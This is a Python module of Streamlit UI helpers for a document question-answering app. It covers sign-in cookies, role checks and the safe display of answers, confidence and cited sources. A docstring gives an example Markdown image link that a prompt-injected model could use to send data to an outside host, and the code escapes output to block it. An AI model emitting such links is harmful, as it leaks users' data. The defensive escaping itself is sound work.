"""Layout and session-state helpers the pages share: the engine, who is signed in, and how an
answer, its confidence and its sources look. Nothing here decides anything; `core` does."""

from __future__ import annotations

import itertools
import re
import time
from collections.abc import Callable, Iterator
from datetime import datetime
from typing import Literal, NoReturn
from urllib.parse import urlencode

import streamlit as st
from streamlit.delta_generator import DeltaGenerator

import i18n
from core.answer.types import AnswerResult, AskEvent, Confidence, Source
from core.auth import SINGLE_USER, Actor, AuthConfig, LocalUser, require
from core.ingest.pipeline import IngestProgress
from core.service import Loupe
from core.services.signin import COOKIE
from core.vocab import Verdict
from i18n import N_, _

# Session-state keys that more than one file reads.
ACTOR = "actor"  # the Actor app.py resolved for this run
SIGN_IN_TOKEN = "sign_in_token"  # the token of a local sign-in made in this browser session
COOKIE_UPDATE = "cookie_update"  # (token, max-age seconds) for the browser to store next run

CONFIDENCE_COLORS: dict[str, Literal["green", "orange", "red"]] = {
    "high": "green",
    "medium": "orange",
    "low": "red",
}
CONFIDENCE_ICONS = {
    "high": ":material/verified:",
    "medium": ":material/help:",
    "low": ":material/warning:",
}
VERDICT_LABELS = {
    Verdict.supports: N_("Supports"),
    Verdict.does_not_support: N_("Does not support"),
}
CONFIDENCE_LABELS = {
    "high": N_("likely right"),
    "medium": N_("may be right"),
    "low": N_("likely wrong"),
}
ROLE_NAMES = {"user": N_("user"), "expert": N_("expert"), "admin": N_("admin")}
# The characters that open Markdown, HTML, LaTeX or Streamlit-directive syntax anywhere in a
# line (escaped with a backslash, as CommonMark allows for any ASCII punctuation), and a colon
# that starts a word (`:material/icon:`, `:smile:`). `!`, `(` and `)` need no escape once `[`
# has one: no image or link can form. Other punctuation stays as it is, readable.
_MARKUP = re.compile(r"([\\`*_~\[\]<>&#|$]|:(?=\w))")
# What opens a list, a heading underline or a rule only at the start of a line.
_LINE_START = re.compile(r"^([ \t]*)(?:([-+=])|(\d+)([.)]))", re.MULTILINE)
# Where GitHub-flavoured Markdown turns plain text into a link *after* escapes are resolved
# (Streamlit's renderer matches `https?://`, `www.` and `name@host` in text nodes): a word
# joiner (U+2060, invisible) is put there so no pattern matches.
_AUTOLINK = re.compile(r"(?<=:)(?=//)|(?<=www)(?=\.)|(?<=@)", re.IGNORECASE)
_WORD_JOINER = "\u2060"
_LEADING_SPACE = re.compile(r"^[ \t]+", re.MULTILINE)


@st.cache_resource(show_spinner=False, on_release=Loupe.close)
def _engine() -> Loupe:
    """One engine per process, shared by every session: the embedding model and the stores are
    expensive to load and safe to share."""
    return Loupe()


_started = False  # whether this process has an engine yet (then no spinner is needed)


def engine() -> Loupe:
    """The process's engine; the first call says what it is waiting for (in the visitor's
    language, which a cache decorator's fixed spinner text could not)."""
    global _started
    if _started:
        return _engine()
    with st.spinner(_("Starting Loupe: loading the embedding model…")):
        loupe = _engine()
    _started = True
    return loupe


def verdict_label(verdict: str) -> str:
    return _(VERDICT_LABELS[verdict]) if verdict in VERDICT_LABELS else verdict


def verdict_labels() -> Callable[[object], str]:
    """The verdict control's `format_func` (see `i18n.labels`)."""
    return i18n.labels(VERDICT_LABELS)


def confidence_label(label: str) -> str:
    return _(CONFIDENCE_LABELS[label]) if label in CONFIDENCE_LABELS else label


def role_name(role: str) -> str:
    return _(ROLE_NAMES[role]) if role in ROLE_NAMES else role


# Sign-in -----------------------------------------------------------------------------------


def auth_config() -> AuthConfig:
    """The `[auth]` section of the secrets (none at all means single-user mode)."""
    section = st.secrets.get("auth") if st.secrets.load_if_toml_exists() else None
    return AuthConfig.from_secrets(section)


def browser_cookie() -> str | None:
    """The sign-in cookie the browser sent when it connected (a reload or a new tab)."""
    value = st.context.cookies.get(COOKIE)
    return value if isinstance(value, str) and value else None


def sign_in_token() -> str | None:
    """This session's local sign-in: made in this tab, or brought along by the cookie."""
    return st.session_state.get(SIGN_IN_TOKEN) or browser_cookie()


def resolve_actor(config: AuthConfig) -> Actor | None:
    """Who is signed in to this session, or None. A local sign-in is checked against SQL and
    the secrets on every run, so signing out elsewhere, a changed password, a changed role or
    a removed user applies at once."""
    if config.mode == "single-user":
        return SINGLE_USER
    if config.providers and st.user.get("is_logged_in"):
        return config.oidc_actor(st.user.to_dict())
    if not config.users:
        return None
    return engine().sign_ins.resolve(sign_in_token(), config)


def start_sign_in(user: LocalUser) -> None:
    """Sign a local user in whose password was just checked; the browser keeps the token."""
    issued = engine().sign_ins.issue(user)
    st.session_state[SIGN_IN_TOKEN] = issued.token
    st.session_state[COOKIE_UPDATE] = (issued.token, issued.max_age_seconds)


def end_sign_in() -> None:
    """Sign out: revoke the sign-in everywhere, forget the session, and clear the cookie."""
    engine().sign_ins.revoke(sign_in_token())
    st.session_state.clear()
    st.session_state[COOKIE_UPDATE] = ("", 0)


# Sets or clears the sign-in cookie from the browser: Streamlit reads cookies but cannot set
# them. Runs in the app's page (components v2 are not iframed), once, on the run after a
# sign-in or sign-out.
_COOKIE_JS = """
export default function ({ data }) {
  const secure = window.location.protocol === "https:" ? "; Secure" : "";
  document.cookie = `${data.name}=${data.value}; Path=/; Max-Age=${data.max_age}; ` +
    `SameSite=Strict${secure}`;
}
"""
_cookie_writer = st.components.v2.component("loupe_sign_in_cookie", js=_COOKIE_JS)


def write_pending_cookie() -> None:
    """Hand the browser the cookie a sign-in or sign-out asked for, if any."""
    update = st.session_state.pop(COOKIE_UPDATE, None)
    if update is not None:
        token, max_age = update
        set_cookie(COOKIE, token, max_age)


def set_cookie(name: str, value: str, max_age: int, key: str | None = None) -> None:
    """Have the browser store a cookie (an empty value and no age clear it); `key` tells
    two cookies set in one run apart."""
    _cookie_writer(data={"name": name, "value": value, "max_age": max_age}, key=key)


def require_role(role: str) -> Actor:
    """The signed-in actor if their role allows this page; otherwise say why and stop."""
    try:
        return require(st.session_state.get(ACTOR), role)
    except PermissionError as exc:
        stop_with_error(str(exc))


def stop_with_error(message: str) -> NoReturn:
    """Say what went wrong (a message from core is translated here) and stop the page."""
    st.error(i18n.core_text(message), icon=":material/block:")
    st.stop()


# Documents ---------------------------------------------------------------------------------


def load_samples(loupe: Loupe, actor: Actor) -> None:
    """Index the shipped sample documents, showing each file as it is read."""
    with st.status(_("Indexing the sample documents…"), expanded=True) as status:

        def report(progress: IngestProgress) -> None:
            if progress.stage == "parse":
                show_text(_("Reading {name}…", name=progress.name))

        results = loupe.load_samples(progress=report, actor=actor)
        failed = [r for r in results if r.outcome == "failed"]
        for result in failed:
            st.error(inert(_("{name}: {error}", name=result.name, error=result.error)))
        status.update(
            label=_(
                "Sample documents ready ({ready} of {total}).",
                ready=i18n.number(len(results) - len(failed)),
                total=i18n.number(len(results)),
            ),
            state="error" if failed else "complete",
            expanded=bool(failed),
        )


# Answers -----------------------------------------------------------------------------------


def inert(text: object) -> str:
    """Untrusted text (answers, quotes, questions, notices, names, headings, comments, the
    LLM server's error messages) as Markdown that Streamlit shows exactly as written: no image
    is loaded, no link is live, no formatting, HTML, LaTeX or `:directive[...]` applies.

    Every untrusted string goes through this before any Streamlit call that reads Markdown
    (labels, captions, toasts, notices, subheaders); blocks of it go through `show_text`.
    Escaping rather than sanitising: nothing a document or a prompt-injected model writes can
    make a viewer's browser fetch a URL (the exfiltration channel, `![x](https://host/?q=...)`)
    or show a link to click. Line breaks are kept as hard breaks, and leading spaces as no-break
    spaces (an indented line would otherwise become a code block, which shows escapes)."""
    body = _AUTOLINK.sub(_WORD_JOINER, str(text).replace("\r\n", "\n").replace("\r", "\n"))
    body = _MARKUP.sub(r"\\\1", body)
    body = _LINE_START.sub(_escape_line_start, body)
    body = _LEADING_SPACE.sub(lambda m: "\u00a0" * len(m.group().expandtabs(4)), body)
    return body.replace("\n", "  \n")


def _escape_line_start(match: re.Match[str]) -> str:
    indent, mark, number, delimiter = match.groups()
    return f"{indent}\\{mark}" if mark else f"{indent}{number}\\{delimiter}"


def show_text(text: object, container: DeltaGenerator | None = None) -> None:
    """A block of untrusted text (an answer, a quote, a question, a comment), shown through
    `st.text`, which parses nothing (no Markdown, no HTML) and keeps line breaks: the text is
    shown and copied exactly as written, and no part of it can load or link anything."""
    (container or st).text(str(text))


# A citation marker as `inert` leaves it: `[1]` escaped to `\[1\]`.
_INERT_MARKER = re.compile(r"\\\[(\d{1,3})\\\]")


def linked_citations(text: str, result: AnswerResult) -> str:
    """The answer as inert Markdown (see `inert`: nothing in it can link or load anything)
    in which each `[n]` of a cited passage, and only that, becomes a link to the passage's
    Source page: the one link in an answer, and one Loupe made, not the text."""
    body = inert(text)
    cited = {source.n for source in result.citations}
    if not result.answer_id or not cited:
        return body

    def link(match: re.Match[str]) -> str:
        n = int(match.group(1))
        if n not in cited:
            return match.group(0)
        return f"[\\[{n}\\]]({source_link(result.answer_id, n)})"

    return _INERT_MARKER.sub(link, body)


def answer_text(result: AnswerResult, text: str | None = None) -> None:
    """An answer's text (or an edit of it), shown as written, with its citations linked to
    their sources."""
    st.markdown(linked_citations(shown_answer(result) if text is None else text, result))


def shown_answer(result: AnswerResult) -> str:
    """The answer as shown: an abstention's fixed sentence from core is translated."""
    return i18n.core_text(result.answer) if result.abstained else result.answer


# A "Copy answer" button: the clipboard is the browser's, so the copying happens there. The
# answer arrives as data and is only ever assigned to the clipboard or `textContent`.
_COPY_JS = """
export default function ({ data, parentElement }) {
  const { text, label, title, copied } = data;
  let button = parentElement.querySelector("button");
  if (!button) {
    button = document.createElement("button");
    parentElement.appendChild(button);
  }
  button.textContent = label;
  button.title = title;
  button.onclick = async () => {
    try {
      await navigator.clipboard.writeText(text);
    } catch (error) {
      const area = document.createElement("textarea");
      area.value = text;
      parentElement.appendChild(area);
      area.select();
      document.execCommand("copy");
      area.remove();
    }
    button.textContent = copied;
    setTimeout(() => { button.textContent = label; }, 1500);
  };
}
"""
_COPY_CSS = """
button {
  font: inherit; font-size: 0.875rem; padding: 0.25rem 0.75rem; cursor: pointer;
  border-radius: 0.5rem; border: 1px solid rgba(49, 51, 63, 0.2);
  background: transparent; color: inherit;
}
button:hover { border-color: #ff4b4b; color: #ff4b4b; }
"""
_copy_button = st.components.v2.component("loupe_copy_answer", js=_COPY_JS, css=_COPY_CSS)


def copy_button(text: str, key: str) -> None:
    labels = {
        "label": _("Copy answer"),
        "title": _("Copy the answer text to the clipboard"),
        "copied": _("Copied"),
    }
    _copy_button(data={"text": text, **labels}, key=key, width="content")


def confidence_help(confidence: Confidence) -> str:
    """The tooltip: the reasons, largest effect first, and what the number is."""
    lines = [f"- {inert(i18n.core_text(reason))}" for reason in confidence.reasons]
    if confidence.calibration:
        about = _("P(right) from calibration `{version}`", version=confidence.calibration)
        if confidence.threshold is not None:
            about += _(
                "; answers below {threshold} are withheld.",
                threshold=i18n.percent(confidence.threshold),
            )
        lines.append("\n" + about)
    else:
        lines.append("\n" + _("Uncalibrated score (no calibration for this embedding model)."))
    return "\n".join(lines)


def confidence_phrase(confidence: Confidence) -> str:
    """ "likely right (83%)" in the session's language."""
    return _(
        "{label} ({score})",
        label=confidence_label(confidence.label),
        score=i18n.percent(confidence.score),
    )


def capitalized(text: str) -> str:
    return text[:1].upper() + text[1:]


def confidence_badge(result: AnswerResult) -> None:
    """ "Likely right (83%)", with the reasons and the calibration version on hover."""
    confidence = result.confidence
    st.badge(
        capitalized(confidence_phrase(confidence)),
        icon=CONFIDENCE_ICONS.get(confidence.label),
        color=CONFIDENCE_COLORS.get(confidence.label, "red"),
        help=confidence_help(confidence),
    )


def answer_notices(result: AnswerResult) -> None:
    """Say how the answer was made when it was not made the normal way."""
    # Notices can carry the LLM server's own error text: inert like everything untrusted.
    notice = inert(i18n.core_text(result.notice)) if result.notice else None
    if result.generator == "fallback":
        st.warning(notice or _("The language model failed; this answer was extracted."))
    elif result.generator == "none":
        st.info(notice or _("The documents do not cover this question."))
    elif notice:
        st.caption(notice)
    if result.confidence.label == "low" and result.generator != "none":
        why = " ".join(i18n.core_text(reason) for reason in result.confidence.reasons)
        warning = _("Low confidence: read the passages below before relying on this answer.")
        st.warning(
            warning + (" " + _("Why: {reasons}", reasons=inert(why)) if why else ""),
            icon=":material/warning:",
        )


def generator_caption(result: AnswerResult) -> str:
    """Markdown: the model's name is whatever the server reported, so it is inert."""
    made_by = {
        "llm": _("Written by {model}", model=inert(result.model)),
        "extractive": _("Quoted from the passages (no language model configured)"),
        "fallback": _("Quoted from the passages after the language model failed"),
        "none": _("Not answered"),
        "verified": _verified_caption(result),
    }[result.generator]
    total = result.timings.get("total")
    return made_by + (f" · {i18n.seconds(total)}" if total is not None else "")


def _verified_caption(result: AnswerResult) -> str:
    verified = result.verified
    if verified is None:
        return _("Verified by an expert")
    expert = verified.expert or _("an expert")
    return _(
        "Verified by {expert} on {date}", expert=inert(expert), date=when(verified.verified_at)
    )


def source_title(source: Source) -> str:
    """Markdown for a label: the document's name and heading come from the file, so inert."""
    where = _(", p. {page}", page=source.page) if source.page else ""
    # Headings are breadcrumbs ("Handbook > Leave > Carry over"): the last part says enough.
    heading = f" — {source.heading.split(' > ')[-1]}" if source.heading else ""
    score = _("relevance {share}", share=i18n.percent(engine().relevance(source)))
    return inert(f"[{source.n}] {source.document}{where}{heading}") + f" · {score}"


def source_link(answer_id: str | None, n: int) -> str:
    """The address of the Source page for passage `n` of an answer (relative, so it works
    under any base path); it opens in a new tab from a Markdown link."""
    return f"./source?{urlencode({'answer': answer_id or '', 'n': n})}"


def source_body(source: Source, answer_id: str | None = None) -> None:
    """The quoted passage, as plain text: a passage is data, never markup to render. A link
    opens the original at this place; the raw scores wait behind a details toggle."""
    if source.flagged:
        st.warning(
            _(
                "This passage contains text that reads like instructions to the model; "
                "it was treated as data only."
            ),
            icon=":material/gpp_maybe:",
        )
    show_text(source.quote)
    with st.container(horizontal=True, vertical_alignment="center"):
        if answer_id:
            st.link_button(
                _("Open the original at page {page}", page=source.page)
                if source.page
                else _("Open the original at the passage"),
                source_link(answer_id, source.n),
                icon=":material/open_in_new:",
                type="tertiary",
            )
        score_details(source)


def score_details(source: Source) -> None:
    """The raw scores behind the one relevance figure, for experts, behind a toggle."""
    with st.popover(_("Score details"), icon=":material/tune:", type="tertiary"):
        st.caption(
            _(
                "Relevance is the passage's similarity in meaning to the question, on the "
                "embedding model's own scale (half-way between an unrelated and a clearly "
                "related passage is 50%). The parts below are what ranking used."
            )
        )
        parts = [
            _(
                "rank score (fused, relative to the other passages) {score}",
                score=i18n.number(source.score, 2),
            )
        ]
        if source.vector_score is not None:
            parts.append(_("cosine similarity {score}", score=i18n.number(source.vector_score, 3)))
        if source.keyword_score is not None:
            parts.append(
                _("keyword score (BM25) {score}", score=i18n.number(source.keyword_score, 2))
            )
        st.text("\n".join(parts))


def sources(result: AnswerResult, verdict_widget: Callable[[Source], None] | None = None) -> None:
    """Cited passages in expanders (with an optional verdict control each), then the passages
    that were retrieved but not cited, together in one expander."""
    cited, other = result.citations, [s for s in result.sources if not s.cited]
    low = result.confidence.label == "low"
    for source in cited:
        with st.expander(source_title(source), expanded=low):
            source_body(source, result.answer_id)
            if verdict_widget is not None:
                verdict_widget(source)
    if other:
        label = (
            i18n.ngettext(
                "{n} more retrieved, not cited", "{n} more retrieved, not cited", len(other)
            )
            if cited
            else _("Closest passages (leads, not an answer)")
            if result.generator == "none"
            else _("Retrieved passages")
        )
        with st.expander(label, expanded=low and not cited):
            for source in other:
                st.markdown(f"**{source_title(source)}**")
                source_body(source, result.answer_id)


# Text that arrives in large pieces (the extractive answerer yields whole sentences at once) is
# shown a word at a time, or it would appear all at once and nothing would look streamed.
# Model tokens arrive a word or less at a time and are shown as they come.
WORDS_PER_PIECE = 3
WORD_PAUSE_SECONDS = 0.02
MAX_PAUSE_SECONDS = 1.5  # per answer, however long it is


def paced(piece: str, budget: list[float]) -> Iterator[str]:
    """`piece` a word at a time, pausing between words while `budget[0]` seconds are left."""
    words = re.findall(r"\S+\s*|\s+", piece)
    if len(words) <= WORDS_PER_PIECE:
        yield piece
        return
    for word in words:
        yield word
        if budget[0] > 0:
            time.sleep(WORD_PAUSE_SECONDS)
            budget[0] -= WORD_PAUSE_SECONDS


class AnswerStream:
    """Token events as text to stream onto the page, stopping at a `reset` (the caller starts a
    fresh stream in the same place) or at `done` (which carries the saved result)."""

    def __init__(self, events: Iterator[AskEvent]) -> None:
        self.events = events
        self.result: AnswerResult | None = None
        self.was_reset = False
        self.budget = [MAX_PAUSE_SECONDS]

    def tokens(self) -> Iterator[str]:
        self.was_reset = False
        for event in self.events:
            if event.kind == "token":
                yield from paced(event.text, self.budget)
            elif event.kind == "reset":
                self.was_reset = True
                return
            elif event.result is not None:
                self.result = event.result
                return


def stream_answer(events: Iterator[AskEvent]) -> AnswerResult:
    """Stream an answer into one place on the page. A `reset` (the model failed mid-answer)
    replaces what was shown with the fallback answer instead of appending to it."""
    with st.spinner(_("Searching the documents…")):
        first = next(events)
    stream = AnswerStream(itertools.chain([first], events))
    box = st.empty()
    while stream.result is None:
        with box.container():
            if stream.was_reset:
                st.caption(_("The language model failed mid-answer; quoting the passages instead."))
            # Not `st.write_stream`, which renders the tokens as live Markdown.
            shown, text = st.empty(), ""
            for token in stream.tokens():
                text += token
                show_text(text, shown)
        if stream.result is None and not stream.was_reset:
            raise RuntimeError("The answer stream ended without a result.")
    box.empty()
    return stream.result


def when(moment: datetime) -> str:
    """A date and time for the page, in the visitor's language."""
    return i18n.when(moment)


def table_height(rows: int, *, max_rows: int = 12) -> int:
    """Tall enough for the rows without an inner scrollbar, up to `max_rows`."""
    return 38 + 35 * min(max(rows, 1), max_rows)
